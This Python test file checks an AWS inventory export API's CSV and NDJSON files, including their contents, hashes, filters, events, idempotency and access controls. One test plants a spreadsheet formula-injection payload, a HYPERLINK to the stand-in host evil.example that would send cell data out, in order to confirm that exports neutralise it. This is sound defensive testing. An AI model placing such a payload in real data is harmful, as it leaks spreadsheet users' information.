"""Exports: the file holds what the list shows, no more and no less, and does no harm to a spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import urllib.error
import urllib.request
import uuid
from typing import Any

import pytest

from tests.demo.client import Api
from tests.demo.live import Feed
from tests.local import scans
from tests.local.platform import Platform, eventually
from tests.local.test_input import problem

ROUTE = "/v1/aws/exports"


def order(api: Api, **wish: Any) -> dict[str, Any]:
    """Asks for a file and waits until it is there."""
    answer = api.post(ROUTE, wish)
    assert answer.status == 202
    path = answer.headers["Location"].removeprefix(api.url)
    return eventually(lambda: (export := api.get(path))["state"] in ("completed", "failed") and export, 60)


def fetch(export: dict[str, Any]) -> tuple[bytes, Any]:
    with urllib.request.urlopen(export["url"]) as reply:
        return reply.read(), reply.headers


def rows_of(export: dict[str, Any]) -> list[dict[str, Any]]:
    text = fetch(export)[0].decode()
    if export["format"] == "csv":
        return list(csv.DictReader(io.StringIO(text, newline="")))
    return [json.loads(line) for line in text.splitlines()]


@pytest.mark.parametrize("format", ["csv", "ndjson"])
def test_holds_what_the_list_shows(api: Api, first_scan: dict[str, Any], format: str) -> None:
    export = order(api, format=format)
    resources = list(api.pages("/v1/aws/resources", page_size=1000))

    rows = rows_of(export)

    assert export["state"] == "completed"
    assert [row["id"] for row in rows] == [resource["id"] for resource in resources]
    assert export["rows"] == len(resources)
    for row, resource in zip(rows, resources, strict=True):
        tags = json.loads(row["tags"]) if format == "csv" else row["tags"]
        properties = json.loads(row["properties"]) if format == "csv" else row["properties"]
        assert (tags, properties) == (resource["tags"], resource["properties"])
        assert row["native_id"].removeprefix("'") == resource["native_id"]
        assert row["owner_agent"] == resource["owner_agent"]


def test_says_how_large_it_is_and_under_which_name_to_save_it(api: Api, first_scan: dict[str, Any]) -> None:
    export = order(api, format="csv", filter={"resource_type": "AWS::EC2::Volume"}, columns=["native_id", "region"])

    body, headers = fetch(export)

    assert export["bytes"] == len(body)
    assert export["sha256"] == hashlib.sha256(body).hexdigest()
    assert re.fullmatch(r"pantheon-inventory-\d{8}T\d{6}Z\.csv", export["file_name"])
    assert headers["Content-Disposition"] == f'attachment; filename="{export["file_name"]}"'
    assert headers["Content-Type"].startswith("text/csv")
    assert "X-Amz-Expires=900" in export["url"]
    assert body.startswith(b"native_id,region\r\n")
    assert body.count(b"\r\n") == export["rows"] + 1


def test_filters_as_the_list_does(api: Api, first_scan: dict[str, Any]) -> None:
    for query in (
        {"region": "eu-west-1"},
        {"resource_type": "AWS::S3::Bucket"},
        {"state": "active"},
        {"owner_agent": "Noguchi"},
        {"tag": "Environment=production"},
        {"account_id": "229999999999"},
    ):
        export = order(api, format="ndjson", filter=query, columns=["id"])
        listed = [resource["id"] for resource in api.pages("/v1/aws/resources", **query)]
        assert [row["id"] for row in rows_of(export)] == listed, query


def test_lets_no_name_of_a_resource_become_a_formula(api: Api, organization: Any, first_scan: dict[str, Any]) -> None:
    development = organization.estate.account("development").id
    ec2 = organization.accounts.client("ec2", development, "eu-west-1")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    tags = [{"Key": "Name", "Value": evil}]
    specification = [{"ResourceType": "volume", "Tags": tags}]
    volume = ec2.create_volume(AvailabilityZone="eu-west-1a", Size=1, VolumeType="gp3", TagSpecifications=specification)["VolumeId"]
    scope = {"accounts": [development], "regions": ["eu-west-1"], "services": ["ec2"]}
    try:
        scans.run(api, **scope)
        filter = {"account_id": development, "resource_type": "AWS::EC2::Volume"}
        cells = {row["native_id"]: row["name"] for row in rows_of(order(api, format="csv", filter=filter))}
        plain = {row["native_id"]: row["name"] for row in rows_of(order(api, format="ndjson", filter=filter))}
    finally:
        ec2.delete_volume(VolumeId=volume)
        scans.run(api, **scope)
    assert cells[volume] == f"'{evil}"
    assert plain[volume] == evil
    assert not [cell for cell in cells.values() if cell[:1] in "=+-@\t\r" and cell]


def test_says_what_the_file_rests_on(api: Api, first_scan: dict[str, Any]) -> None:
    world = api.get("/v1/aws/world/latest")

    export = order(api, format="csv", columns=["id"])

    assert export["basis"] == {"scan_id": world["scan_id"], "assembled_at": world["assembled_at"], "complete": world["complete"]}
    assert (export["note"] is None) is world["complete"]


def test_tells_when_the_file_is_there(platform: Platform, api: Api, first_scan: dict[str, Any]) -> None:
    feed = Feed(platform.outputs["socket_url"], api, ["exports"])

    export = order(api, format="csv", columns=["id"])

    told: list[dict[str, Any]] = []

    def both() -> bool:
        frame = feed.next(0.2)
        if frame and "event" in frame and frame["event"]["data"]["export_id"] == export["id"]:
            told.append(frame["event"])
        return [event["type"] for event in told] == ["export.requested", "export.completed"]

    eventually(both)
    assert told[1]["data"]["rows"] == export["rows"]
    feed.close()


def test_makes_one_file_for_one_key(api: Api, first_scan: dict[str, Any]) -> None:
    key, wish = str(uuid.uuid4()), {"format": "csv", "columns": ["id"]}

    first, second = api.post(ROUTE, wish, key), api.post(ROUTE, wish, key)

    assert first.json() == second.json()
    problem(api.call("POST", ROUTE, {"format": "ndjson"}, {"Idempotency-Key": key}), 422, "idempotency_key_reused")
    eventually(lambda: api.get(f"{ROUTE}/{first.json()['id']}")["state"] == "completed")


def test_writes_a_file_once_however_often_it_is_told_to(platform: Platform, api: Api, first_scan: dict[str, Any]) -> None:
    export = order(api, format="csv", columns=["id"])
    before = platform.items("discovery", id=export["id"], entity="export")
    tenant = api.get("/v1/auth/me")["tenant"]["id"]
    detail = {
        "id": f"evt_{uuid.uuid4()}", "type": "export.requested", "schema_version": 1, "tenant_id": tenant,
        "actor": {"kind": "system", "id": "test"}, "correlation_id": f"cor_{uuid.uuid4()}", "causation_id": None,
        "occurred_at": export["requested_at"], "subject": f"exports/{export['id']}", "sequence": 1,
        "data": {"export_id": export["id"], "format": "csv"},
    }
    message = {
        "version": "0", "id": str(uuid.uuid4()), "detail-type": "export.requested", "source": "pantheon", "account": "000000000000",
        "time": export["requested_at"], "region": "us-east-1", "resources": [], "detail": detail,
    }

    platform.send("write-export", message, message)

    attributes = ["ApproximateNumberOfMessages", "ApproximateNumberOfMessagesNotVisible"]
    sqs = platform.client("sqs")
    eventually(lambda: set(sqs.get_queue_attributes(QueueUrl=platform.queue("write-export"), AttributeNames=attributes)["Attributes"].values()) == {"0"})
    assert platform.items("discovery", id=export["id"], entity="export") == before


def test_opens_the_file_only_to_who_was_given_the_address(api: Api, first_scan: dict[str, Any]) -> None:
    export = order(api, format="csv", columns=["id"])
    bare = export["url"].partition("?")[0]

    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(bare)

    assert refused.value.code in (400, 403)


def test_lists_exports_the_newest_first_and_without_addresses(api: Api, first_scan: dict[str, Any]) -> None:
    for _ in range(2):
        order(api, format="csv", columns=["id"])

    listed = list(api.pages(ROUTE, page_size=2))

    assert [export["id"] for export in listed] == sorted((export["id"] for export in listed), reverse=True)
    assert {export["url"] for export in listed} == {None}


def test_points_at_what_is_wrong_with_an_order(api: Api, first_scan: dict[str, Any]) -> None:
    for wish, pointer in [
        ({}, ""),
        ({"format": "xlsx"}, "/format"),
        ({"format": "csv", "columns": ["id", "id"]}, "/columns"),
        ({"format": "csv", "columns": ["password"]}, "/columns/0"),
        ({"format": "csv", "filter": {"account_id": "1"}}, "/filter/account_id"),
        ({"format": "csv", "filter": {"depth": 1}}, "/filter/depth"),
    ]:
        document = problem(api.call("POST", ROUTE, wish, {"Idempotency-Key": str(uuid.uuid4())}), 400, "invalid")
        assert pointer in [error["pointer"] for error in document["errors"]], (wish, document)
